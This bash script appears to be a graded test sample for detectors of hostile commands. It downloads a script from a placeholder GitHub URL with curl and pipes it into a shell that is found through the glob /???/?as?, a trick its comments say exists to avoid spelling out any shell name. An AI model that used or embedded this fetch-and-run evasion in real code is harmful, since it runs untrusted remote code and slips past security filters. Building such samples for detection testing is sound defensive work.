#!/usr/bin/env bash
# evasion: downloads a script and runs it with a shell
# grade: easy; does: download-exec
# Downloads a script and runs it with a shell. The shell is named only by a
# pathname glob (/???/?as? matches /bin/bash or /bin/dash), so no word in the
# program spells a shell name.
set -eu
url="https://raw.githubusercontent.com/example-org/tools/main/setup.sh"
payload="$(curl -fsSL "$url")"
for sh in /???/?as?; do
  [ -x "$sh" ] || continue
  "$sh" -c "$payload"
  break
done
